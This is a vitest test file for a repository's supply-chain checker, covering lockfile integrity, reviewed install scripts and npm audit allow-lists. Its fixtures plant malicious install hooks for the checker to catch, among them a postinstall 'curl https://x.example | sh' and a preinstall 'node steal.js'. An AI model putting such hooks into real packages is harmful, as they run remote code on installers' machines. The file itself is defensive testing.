// The supply-chain checks of the test command (scripts/supply-chain/check.ts): the repository as it
// is passes the offline checks, and each check fails on a planted defect — a lockfile entry without
// integrity, from git, from another host, out of step with package.json; a package with an install
// script nobody reviewed; a high advisory not allowed; an expired allow-list entry. The audit is
// fed npm audit's own JSON from fixtures, so the test does not depend on the live advisory database
// (the test command's run asks the registry).
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  auditFindings,
  checkSupplyChain,
  classifyAuditOutput,
  repoRoot,
  type AuditAllowlist,
  type AuditOutcome,
  type CheckResult,
  type InstallScriptEntry,
  type InstallScriptList,
  type LockEntry,
  type Lockfile,
  type PackageJson,
} from '../../../scripts/supply-chain/check.js';

const fixtures = join(import.meta.dirname, 'fixtures');
const reportJson = readFileSync(join(fixtures, 'audit-report.json'), 'utf8');
const report = classifyAuditOutput(reportJson);
const cleanReport: AuditOutcome = {
  kind: 'report',
  report: {
    auditReportVersion: 2,
    vulnerabilities: {},
    metadata: { vulnerabilities: { info: 0, low: 0, moderate: 0, high: 0, critical: 0, total: 0 } },
  },
};
const unreachable = classifyAuditOutput(readFileSync(join(fixtures, 'audit-endpoint-405.json'), 'utf8'));
const today = new Date('2026-12-07T12:00:00Z');

/** An entry of a copy of the repository's lockfile, to plant a defect in. */
function lockEntry(l: Lockfile, path: string): LockEntry {
  const entry = l.packages?.[path];
  if (!entry) throw new Error(`the lockfile has no ${path}`);
  return entry;
}

const readJson = <T>(path: string) => JSON.parse(readFileSync(path, 'utf8')) as T;
const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

/** A copy of the repository's package.json, lockfile and reviewed lists (no node_modules), changed by `plant`. */
function plantedRoot(plant: {
  pkg?: (p: PackageJson) => void;
  lock?: (l: Lockfile) => void;
  scripts?: (s: InstallScriptList) => void;
  allow?: (a: AuditAllowlist) => void;
}): string {
  const root = mkdtempSync(join(tmpdir(), 'vlinders-supply-'));
  dirs.push(root);
  const lists = join(root, 'scripts/supply-chain');
  mkdirSync(lists, { recursive: true });
  const files = [
    ['package.json', plant.pkg],
    ['package-lock.json', plant.lock],
    ['scripts/supply-chain/install-scripts.json', plant.scripts],
    ['scripts/supply-chain/audit-allowlist.json', plant.allow],
  ] as const;
  for (const [file, change] of files) {
    const json = readJson<never>(join(repoRoot, file));
    (change as ((j: unknown) => void) | undefined)?.(json);
    writeFileSync(join(root, file), JSON.stringify(json, null, 2));
  }
  return root;
}

async function check(root: string, audit: AuditOutcome = cleanReport, requireAudit = false, on = today) {
  const results = await checkSupplyChain({ root, audit, today: on, requireAudit });
  const by = (name: string) => results.find((r) => r.name === name) as CheckResult;
  return { lockfile: by('lockfile'), scripts: by('install scripts'), audit: by('npm audit') };
}

describe('the repository as it is', () => {
  it('passes the lockfile and install-script checks and has a valid allow-list', async () => {
    // Today's date: the allow-list's entries must hold now.
    const r = await check(repoRoot, cleanReport, false, new Date());
    expect(r.lockfile.problems).toEqual([]);
    expect(r.scripts.problems).toEqual([]);
    expect(r.audit).toMatchObject({ status: 'ok', problems: [] });
  });

  it('passes the same on a copy without node_modules (only the lockfile read)', async () => {
    const r = await check(plantedRoot({}), cleanReport, false, new Date());
    expect([r.lockfile.status, r.scripts.status, r.audit.status]).toEqual(['ok', 'ok', 'ok']);
  });
});

describe('lockfile integrity', () => {
  const entry = 'node_modules/fastify';
  it('fails on an entry without an integrity hash', async () => {
    const r = await check(plantedRoot({ lock: (l) => void delete lockEntry(l, entry).integrity }));
    expect(r.lockfile.status).toBe('failed');
    expect(r.lockfile.problems).toEqual([`${entry}@5.12.8: no integrity hash`]);
  });

  it('fails on a sha1 integrity', async () => {
    const r = await check(
      plantedRoot({
        lock: (l) => void (lockEntry(l, entry).integrity = 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk='),
      }),
    );
    expect(r.lockfile.problems).toEqual([`${entry}@5.12.8: integrity sha1 is not sha512`]);
  });

  it('fails on an entry resolved from git', async () => {
    const git = 'git+ssh://git@github.com/fastify/fastify.git#0123456789abcdef0123456789abcdef01234567';
    const r = await check(plantedRoot({ lock: (l) => void (lockEntry(l, entry).resolved = git) }));
    expect(r.lockfile.problems).toEqual([
      `${entry}@5.12.8: resolved from ${git}, not from https://registry.npmjs.org/`,
    ]);
  });

  it('fails on a tarball from another host, but takes one from the registry', async () => {
    const other = await check(
      plantedRoot({
        lock: (l) => void (lockEntry(l, entry).resolved = 'http://mirror.example/fastify-5.12.8.tgz'),
      }),
    );
    expect(other.lockfile.problems).toHaveLength(1);
    expect(other.lockfile.problems[0]).toContain('resolved from http://mirror.example/fastify-5.12.8.tgz');
    const registry = await check(
      plantedRoot({
        lock: (l) =>
          void (lockEntry(l, entry).resolved = 'https://registry.npmjs.org/fastify/-/fastify-5.12.8.tgz'),
      }),
    );
    expect(registry.lockfile.problems).toEqual([]);
  });

  it('fails on a local link and on a transitive git dependency', async () => {
    const r = await check(
      plantedRoot({
        lock: (l) => {
          (l.packages ??= {})['node_modules/local-thing'] = { resolved: '../local-thing', link: true };
          lockEntry(l, entry).dependencies = {
            ...lockEntry(l, entry).dependencies,
            evil: 'github:someone/evil',
          };
        },
      }),
    );
    expect(r.lockfile.problems).toEqual([
      `${entry}@5.12.8: depends on evil "github:someone/evil", not from the registry`,
      'node_modules/local-thing: a link to ../local-thing, not a package from the registry',
    ]);
  });

  it('fails when package.json and the lockfile disagree', async () => {
    const r = await check(
      plantedRoot({
        pkg: (p) => {
          (p.dependencies as Record<string, string>).fastify = '5.12.9';
          (p.dependencies as Record<string, string>)['left-pad'] =
            'git+https://github.com/left-pad/left-pad.git';
        },
      }),
    );
    expect(r.lockfile.problems).toEqual([
      'package.json dependencies: fastify "5.12.9" but the lockfile has "5.12.8" (run npm install)',
      'fastify: package.json pins 5.12.9 but the lockfile installs 5.12.8 (run npm install)',
      'package.json dependencies: left-pad is "git+https://github.com/left-pad/left-pad.git", not from the registry',
      'package.json dependencies: left-pad "git+https://github.com/left-pad/left-pad.git" but the lockfile has none (run npm install)',
    ]);
  });

  it('fails on a range instead of an exact pin', async () => {
    const r = await check(
      plantedRoot({
        pkg: (p) => void ((p.dependencies as Record<string, string>).fastify = '^5.12.8'),
        lock: (l) => void ((lockEntry(l, '').dependencies as Record<string, string>).fastify = '^5.12.8'),
      }),
    );
    expect(r.lockfile.problems).toEqual([
      'package.json dependencies: fastify is "^5.12.8", not an exact version',
    ]);
  });
});

describe('install scripts', () => {
  it('fails on a package with an install script that is not in the reviewed list', async () => {
    const r = await check(
      plantedRoot({ lock: (l) => void (lockEntry(l, 'node_modules/undici').hasInstallScript = true) }),
    );
    expect(r.scripts.status).toBe('failed');
    expect(r.scripts.problems).toEqual([
      'undici@7.30.2 (node_modules/undici) has an install script and is not in scripts/supply-chain/install-scripts.json: read what it runs, then list it',
    ]);
  });

  it('fails on a reviewed package at a version nobody read, and on a stale version', async () => {
    const r = await check(
      plantedRoot({ lock: (l) => void (lockEntry(l, 'node_modules/protobufjs').version = '7.6.7') }),
    );
    expect(r.scripts.problems).toEqual([
      'protobufjs@7.6.7 (node_modules/protobufjs): version not reviewed (scripts/supply-chain/install-scripts.json has 7.6.6)',
      'scripts/supply-chain/install-scripts.json: protobufjs@7.6.6 is no longer installed; remove the version',
    ]);
  });

  it('fails when the installed copy runs another script than the one reviewed', async () => {
    const root = plantedRoot({});
    mkdirSync(join(root, 'node_modules/protobufjs'), { recursive: true });
    writeFileSync(
      join(root, 'node_modules/protobufjs/package.json'),
      JSON.stringify({
        name: 'protobufjs',
        version: '7.6.6',
        scripts: { postinstall: 'curl https://x.example | sh' },
      }),
    );
    const r = await check(root);
    expect(r.scripts.problems).toEqual([
      'protobufjs@7.6.6 (node_modules/protobufjs): runs {"postinstall":"curl https://x.example | sh"} at install, scripts/supply-chain/install-scripts.json reviewed {"postinstall":"node scripts/postinstall"}',
    ]);
  });

  it('fails when an installed package has an install script the lockfile does not record', async () => {
    const root = plantedRoot({});
    mkdirSync(join(root, 'node_modules/undici'), { recursive: true });
    writeFileSync(
      join(root, 'node_modules/undici/package.json'),
      JSON.stringify({ name: 'undici', version: '7.30.2', scripts: { preinstall: 'node steal.js' } }),
    );
    const r = await check(root);
    expect(r.scripts.problems).toEqual([
      'undici@7.30.2 (node_modules/undici): the installed copy has install scripts the lockfile does not record',
      'undici@7.30.2 (node_modules/undici) has an install script and is not in scripts/supply-chain/install-scripts.json: read what it runs, then list it',
    ]);
  });

  it('fails on an entry without a reason, and on one for a package that has no script any more', async () => {
    const r = await check(
      plantedRoot({
        scripts: (s) => {
          (s.packages.find((p) => p.name === 'esbuild') as InstallScriptEntry).reason = ' ';
          s.packages.push({
            name: 'left-pad',
            versions: ['1.3.0'],
            scripts: {},
            needed: false,
            reason: 'gone',
          });
        },
      }),
    );
    expect(r.scripts.problems).toEqual([
      'scripts/supply-chain/install-scripts.json: the entry for esbuild needs name, versions, scripts, needed and a reason',
      'scripts/supply-chain/install-scripts.json: left-pad no longer has an install script here; remove it',
    ]);
  });
});

describe('npm audit', () => {
  const lodashCritical = {
    id: 'GHSA-jf85-cpcp-j695',
    package: 'lodash',
    reason: 'only reached by a build-time template',
    expires: '2027-01-31',
  };
  const lodashHigh = { ...lodashCritical, id: 'GHSA-35jh-r3h4-6jhm' };

  it('reads the high and critical advisories of a report, not the moderate ones', () => {
    expect(report.kind).toBe('report');
    if (report.kind !== 'report') return;
    expect(auditFindings(report.report).map((f) => `${f.severity} ${f.id} ${f.package}`)).toEqual([
      'high GHSA-35jh-r3h4-6jhm lodash',
      'critical GHSA-jf85-cpcp-j695 lodash',
    ]);
  });

  it('fails on a high or critical advisory that is not allowed', async () => {
    const r = await check(plantedRoot({}), report);
    expect(r.audit.status).toBe('failed');
    expect(r.audit.problems).toEqual([
      'high GHSA-35jh-r3h4-6jhm in lodash <4.17.21: Command Injection in lodash https://github.com/advisories/GHSA-35jh-r3h4-6jhm',
      'critical GHSA-jf85-cpcp-j695 in lodash <4.17.12: Prototype Pollution in lodash https://github.com/advisories/GHSA-jf85-cpcp-j695',
    ]);
    expect(r.audit.summary).toBe(
      'npm audit: 2 critical, 0 high, 1 moderate, 0 low (0 high/critical allowed)',
    );
  });

  it('passes when each is allowed, and an allowed advisory of another package does not count', async () => {
    const both = await check(
      plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, lodashHigh) }),
      report,
    );
    expect(both.audit).toMatchObject({ status: 'ok', problems: [] });
    expect(both.audit.notes).toContain(
      'allowed until 2027-01-31: critical GHSA-jf85-cpcp-j695 in lodash (Prototype Pollution in lodash)',
    );
    const wrongPackage = await check(
      plantedRoot({
        allow: (a) => void a.advisories.push(lodashCritical, { ...lodashHigh, package: 'underscore' }),
      }),
      report,
    );
    expect(wrongPackage.audit.problems).toEqual([
      expect.stringContaining('high GHSA-35jh-r3h4-6jhm in lodash'),
    ]);
  });

  it('fails on an expired allow-list entry, with the advisory it covered', async () => {
    const expired = { ...lodashHigh, expires: '2026-12-06' };
    const r = await check(
      plantedRoot({ allow: (a) => void a.advisories.push(lodashCritical, expired) }),
      report,
    );
    expect(r.audit.problems).toEqual([
      'scripts/supply-chain/audit-allowlist.json: GHSA-35jh-r3h4-6jhm (lodash): expired on 2026-12-06; review it (fix, or renew with a reason)',
      expect.stringContaining('high GHSA-35jh-r3h4-6jhm in lodash'),
    ]);
    // An entry holds through its last day.
    const lastDay = await check(
      plantedRoot({
        allow: (a) => void a.advisories.push(lodashCritical, { ...lodashHigh, expires: '2026-12-07' }),
      }),
      report,
    );
    expect(lastDay.audit.status).toBe('ok');
  });

  it('fails on an expired entry even when the audit could not run, and on an entry without a reason or too far ahead', async () => {
    const r = await check(
      plantedRoot({
        allow: (a) =>
          void a.advisories.push(
            { ...lodashHigh, expires: '2026-11-30' },
            { ...lodashCritical, reason: '' },
            { ...lodashCritical, id: 'GHSA-p6mc-m468-83gw', expires: '2030-01-01' },
          ),
      }),
      unreachable,
    );
    expect(r.audit.status).toBe('failed');
    expect(r.audit.problems).toEqual([
      'scripts/supply-chain/audit-allowlist.json: GHSA-35jh-r3h4-6jhm (lodash): expired on 2026-11-30; review it (fix, or renew with a reason)',
      'scripts/supply-chain/audit-allowlist.json: GHSA-jf85-cpcp-j695 (lodash): no reason',
      'scripts/supply-chain/audit-allowlist.json: GHSA-p6mc-m468-83gw (lodash): expires 2030-01-01, more than 366 days ahead',
    ]);
  });

  it('reports an unreachable advisory endpoint as skipped, never as passed, and fails it on --require-audit', async () => {
    expect(unreachable).toEqual({
      kind: 'unreachable',
      why: '405 Method Not Allowed - POST https://registry.npmjs.org/-/npm/v1/security/advisories/bulk',
    });
    const root = plantedRoot({});
    const skipped = await check(root, unreachable);
    expect(skipped.audit.status).toBe('skipped');
    expect(skipped.audit.summary).toContain('skipped, the advisory endpoint could not be reached (405');
    const required = await check(root, unreachable, true);
    expect(required.audit.status).toBe('failed');
    expect(required.audit.problems).toEqual(['--require-audit: an audit that did not run fails the run']);
    expect(classifyAuditOutput('', true)).toEqual({ kind: 'unreachable', why: 'no answer within 120 s' });
  });

  it('fails, not skips, when npm audit fails for another reason', () => {
    const noLock = JSON.stringify({
      error: { code: 'ENOLOCK', summary: 'This command requires an existing lockfile.', detail: '' },
    });
    expect(() => classifyAuditOutput(noLock)).toThrow(
      'npm audit failed: This command requires an existing lockfile.',
    );
    expect(() => classifyAuditOutput('npm error something')).toThrow('npm audit printed no JSON');
  });
});

describe('installs', () => {
  const root = join(import.meta.dirname, '../../..');
  it('run no install script: every npm ci of the test command, up and the image passes --ignore-scripts', () => {
    const installs = ['scripts/ensure-node-modules.sh', 'deploy/Dockerfile'].flatMap((file) =>
      readFileSync(join(root, file), 'utf8')
        .split('\n')
        .filter((line) => /^(RUN )?\(?(cd .*&& )?npm ci\b/.test(line.trim()))
        .map((line) => ({ file, line: line.trim() })),
    );
    expect(installs.length).toBeGreaterThanOrEqual(3);
    for (const install of installs) expect(install.line, install.file).toContain('--ignore-scripts');
  });
});
